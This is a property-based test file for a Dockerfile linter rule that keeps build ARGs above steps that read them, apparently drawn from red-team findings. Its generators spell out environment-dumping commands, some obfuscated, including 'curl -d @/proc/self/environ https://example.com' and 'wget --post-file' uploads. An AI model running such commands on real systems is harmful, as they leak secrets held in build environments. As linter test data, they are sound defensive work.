"""AIS102 never moves an ARG past a step that reads it without naming it (red-team findings).

Two classes, each drawn by a generator rather than listed:

- a step that lists or copies the environment (`set > /env`, `cp /proc/self/environ /e`,
  `tar czf /e.tgz /proc/$$/environ`, `${!prefix@}`, `env`/`printenv` in any wrapper position,
  `declare -p`, `compgen -e`, `export`…) reads every ARG in scope;
- a system package manager (or gem, or pip) installing a package *file* runs that package's
  scripts, which can read every ARG: the file counts as project code;
- a tool the rule trusts to read no build variable still reads its own namespace (pip's
  `PIP_*`, npm's `npm_config_*` in any case, apt's `DEBIAN_FRONTEND`, every fetcher's
  proxies, a compiler's flags): an ARG of such a name, used only by a LABEL, stays above
  every RUN (a third red-team pass: `ARG PIP_INDEX_URL` moved past `pip install`).

For each drawn step the rule must not take the RUN as reading no build variable, and the safe
fix of `ARG GIT_SHA` declared above `RUN apt-get update` must leave the ARG above the step (and
still report the skipped `apt-get update`). Controls drawn from the same pieces (a named distro
package, `set -eux`, a glob that cannot match `environ`) keep moving, so the fix is not simply
switched off.
"""

from __future__ import annotations

import dockerfile
from hypothesis import given, settings
from hypothesis import strategies as st

from aishell.lint import Options, lint_text
from aishell.lint_rules.ais102_volatile_arg_early import _run_facts
from aishell.lint_rules._edits import runs_project_code
from aishell.migration import fix_text
from aishell.model import parse
from aishell.shell import analyse_run

_OPTS = Options(select=["AIS102"], use_config=False)


def _fixed(text: str) -> str:
    return fix_text(text, "Dockerfile", _OPTS).text


def _arg_stays_above(step: str) -> None:
    """ARG GIT_SHA, a step it skips, then ``step``: reported, and never moved past ``step``."""
    text = f"FROM aishell:foundation\nARG GIT_SHA\nRUN apt-get update\nRUN {step}\nRUN apt-get install -y jq\n"
    run = parse(text).instructions[3]
    findings = lint_text(text, "Dockerfile", _OPTS).findings
    assert [f.code for f in findings] == ["AIS102"], (step, findings)
    new = _fixed(text)
    dockerfile.parse_string(new)  # BuildKit's parser takes the fixed file
    lines = new.splitlines()
    assert lines.index("ARG GIT_SHA") < lines.index(f"RUN {step}"), new
    return run


def _arg_moves_past(step: str) -> None:
    text = f"FROM aishell:foundation\nARG GIT_SHA\nRUN {step}\nRUN make\n"
    new = _fixed(text)
    dockerfile.parse_string(new)
    lines = new.splitlines()
    assert lines.index("ARG GIT_SHA") > lines.index(f"RUN {step}"), new


# -- 1. steps that list or copy the environment -------------------------------------------------

_PID = st.sampled_from(["self", "$$", "thread-self", "1", "${PPID}", "$PPID", '"$$"', "self/task/1"])


@st.composite
def _environ_path(draw) -> str:
    """A spelling of /proc/<pid>/environ: quotes split anywhere, doubled slashes, `..`, globs."""
    pid = draw(_PID)
    base = draw(
        st.sampled_from(
            [
                "/proc/{p}/environ",
                "//proc//{p}///environ",
                "/proc/{p}/../{p}/environ",
                "/proc/./{p}/environ",
                '"/proc/{p}/environ"',
                "'/proc/self/environ'",
                '"/proc/"{p}/environ',
                '/proc/{p}/env"iron"',
                "/proc/{p}/env\\iron",
                "/proc/{p}/env*",
                "/proc/{p}/e?viron",
                "/proc/{p}/[e]nviron",
                "/proc/*/environ",
                "/pro?/{p}/env*",
                "/pro[c]/self/e*",
                "/dev/fd/../environ",
                "/dev/fd/../e*",
            ]
        )
    )
    return base.replace("{p}", pid)


@st.composite
def _copies_environ(draw) -> str:
    """A file utility (one the rule trusts to read no variable) reading an environment file."""
    path = draw(_environ_path())
    return draw(
        st.sampled_from(
            [
                f"cp {path} /env",
                f"cp -L {path} /env",
                f"tar czf /e.tgz {path}",
                f"tar -cf /e.tar {path}",
                f"curl -d @{path} https://example.com",
                f"wget --post-file={path} https://example.com",
                f"cp /dev/stdin /env < {path}",
                f"echo $(< {path}) > /env",
                f"ln -s {path} /env && cp -L /env /env2",
                f"mkdir -p /x && cp {path} /x/",
                "cd /proc/self && cp environ /env",
                "cd /proc/self && tar czf /e.tgz .",
                "cd / && cp pro*/self/e* /env",
                "tar -C /proc/self -czf /e.tgz environ",
                f"apt-get update && cp {path} /env",
            ]
        )
    )


_LISTS = st.one_of(
    # bare `set`, its output anywhere
    st.sampled_from(
        [
            "set > /env",
            "set >/env",
            "set 2>&1 >/env",
            "set >> /env",
            "(set) > /env",
            "{ set; } > /env",
            'echo "$(set)" > /env',
            "set | cat > /env",
            "set -eux; set > /env",
            "apt-get update && set > /env",
            "echo `set` > /env",
        ]
    ),
    # env and printenv, bare or wrapped, and the shells' own listings
    st.tuples(
        st.sampled_from(["", "sudo ", "sudo -E ", "nice ", "timeout 5 ", "command ", "exec ", "busybox ", "/usr/bin/"]),
        st.sampled_from(["env", "printenv", "env -0", "printenv -0"]),
    ).map(lambda t: f"{t[0]}{t[1]} > /env"),
    st.sampled_from(
        [
            "echo $(env) > /env",
            "echo `printenv` > /env",
            'sh -c "env > /env"',
            "xargs env < /dev/null > /env",
            "find / -maxdepth 0 -exec env \\; > /env",
            "export > /env",
            "export -p > /env",
            "declare -p > /env",
            "declare -x > /env",
            "typeset -p > /env",
            "typeset -x > /env",
            "compgen -v > /env",
            "compgen -e > /env",
            "readonly -p > /env",
        ]
    ),
    # bash's name expansion, indirect expansion, through the trusted echo and printf
    st.tuples(
        st.sampled_from(["echo", "printf '%s\\n'"]),
        st.sampled_from(["${!G@}", "${!G*}", '"${!GIT_@}"', "${!A*}", "${!n}", '"${!name}"']),
    ).map(lambda t: f"{t[0]} {t[1]} > /env"),
    _copies_environ(),
)


@settings(max_examples=300, deadline=None)
@given(_LISTS)
def test_a_step_that_lists_or_copies_the_environment_reads_every_arg(step):
    run = _arg_stays_above(step)
    assert not _run_facts(run)[0], step


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(["set -eux", "set -o pipefail", "set -x", "set -e", "set --"]),
    st.sampled_from(["rm -rf /var/lib/apt/lists/*", "chmod +x /usr/local/bin/*", "cp /src/*.sh /dst/", "mkdir -p /x"]),
)
def test_options_to_set_and_globs_that_cannot_reach_environ_read_nothing(opt, cmd):
    _arg_moves_past(f"{opt} && {cmd}")


# -- 2. installs that run a package file's scripts --------------------------------------------

_FILE = st.sampled_from(["./{n}", "/tmp/{n}", "../pkgs/{n}", "pkgs/*{e}", "~/{n}", "{n}", "${{PWD}}/{n}"])


@st.composite
def _package_file_install(draw) -> str:
    manager, ext = draw(
        st.sampled_from(
            [
                ("apt-get install -y", ".deb"),
                ("apt-get -y install --no-install-recommends", ".deb"),
                ("apt-get -o Dpkg::Options::=--force-confold install -y", ".deb"),
                ("apt install -y", ".deb"),
                ("apt install", ".deb"),
                ("dpkg -i", ".deb"),
                ("dpkg --install", ".deb"),
                ("dpkg --force-all -i", ".deb"),
                ("dpkg --unpack", ".deb"),
                ("apk add --no-cache --allow-untrusted", ".apk"),
                ("dnf install -y", ".rpm"),
                ("yum install -y", ".rpm"),
                ("microdnf install", ".rpm"),
                ("zypper --non-interactive install", ".rpm"),
                ("gem install", ".gem"),
                ("gem install --local", ".gem"),
                ("pip install", ".tar.gz"),
                ("pip install --no-deps", ".zip"),
                ("python3 -m pip install", ".tar.gz"),
            ]
        )
    )
    name = draw(st.sampled_from(["local", "tool-1.0", "x"])) + ext
    spelling = draw(_FILE)
    if ext == ".deb" and manager.startswith("apt") and spelling == "{n}":
        spelling = "./{n}"  # apt reads a bare `x.deb` as a file too, but a name is what it says
    path = spelling.format(n=name, e=ext)
    named_before = draw(st.sampled_from(["", "curl ", "git ca-certificates "]))
    if manager.startswith(("dpkg", "gem", "pip", "python3")):
        named_before = ""
    return f"{manager} {named_before}{path}"


@settings(max_examples=300, deadline=None)
@given(_package_file_install())
def test_installing_a_package_file_is_project_code(step):
    run = _arg_stays_above(step)
    assert any(runs_project_code(c.argv) for c in analyse_run(run).commands), step


def test_a_local_package_file_from_the_context_is_project_code():
    """The red-team's own cases, exactly as found."""
    for step in ("apt-get install -y ./local.deb", "apt install ./x.deb", "dpkg -i ./local.deb", "gem install x.gem"):
        _arg_stays_above(step)


@settings(max_examples=100, deadline=None)
@given(
    st.sampled_from(["apt-get install -y", "apt install -y", "apk add --no-cache", "dnf install -y", "gem install"]),
    st.lists(st.sampled_from(["curl", "git", "ca-certificates", "jq", "libssl3"]), min_size=1, max_size=3),
)
def test_packages_named_from_the_repositories_are_still_passed(manager, names):
    _arg_moves_past(f"{manager} {' '.join(names)}")
    _arg_moves_past("dpkg --add-architecture i386")
    _arg_moves_past("apt-get -o Dir::Cache=/var/cache/x install -y curl")


# -- 3. the variables trusted tools read --------------------------------------------------------

_TRUSTED_STEPS = [
    "apt-get install -y jq",
    "pip install requests",
    "npm install -g --ignore-scripts typescript",
    "curl -fsSLo /x https://example.com/x",
    "tar xzf /x.tgz -C /opt",
    "apk add curl",
    "gem install rake",
]
_NAMESPACES = [
    "PIP_",
    "PYTHON",
    "UV_",
    "NODE_",
    "NPM_",
    "YARN_",
    "PNPM_",
    "DEBIAN_",
    "DEBCONF_",
    "APT_",
    "CURL_",
    "SSL_",
    "LC_",
]


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_an_arg_a_trusted_tool_reads_stays_above_it(data):
    kind = data.draw(st.sampled_from(["prefix", "proxy", "npm", "exact"]))
    if kind == "prefix":
        name = data.draw(st.sampled_from(_NAMESPACES)) + data.draw(
            st.sampled_from(["INDEX_URL", "CONFIG", "X1", "FRONTEND"])
        )
    elif kind == "proxy":
        name = "".join(
            c.upper() if data.draw(st.booleans()) else c
            for c in data.draw(st.sampled_from(["http_proxy", "https_proxy", "no_proxy", "all_proxy"]))
        )
    elif kind == "npm":
        name = data.draw(st.sampled_from(["npm_config_registry", "NPM_CONFIG_REGISTRY", "Npm_Config_Cache"]))
    else:
        name = data.draw(st.sampled_from(["HOME", "LANG", "TZ", "CFLAGS", "LDFLAGS", "SOURCE_DATE_EPOCH", "MAKEFLAGS"]))
    step = data.draw(st.sampled_from(_TRUSTED_STEPS))
    text = f"FROM aishell:foundation\nARG {name}\nRUN {step}\nRUN apt-get clean\nLABEL x=${name}\n"
    new = _fixed(text)
    dockerfile.parse_string(new)
    lines = new.splitlines()
    assert lines.index(f"ARG {name}") < lines.index(f"RUN {step}"), new
    # The control: a build-metadata name used only by the LABEL moves below both RUNs.
    control = _fixed(text.replace(name, "GIT_SHA"))
    assert control.splitlines().index("ARG GIT_SHA") > control.splitlines().index("RUN apt-get clean"), control
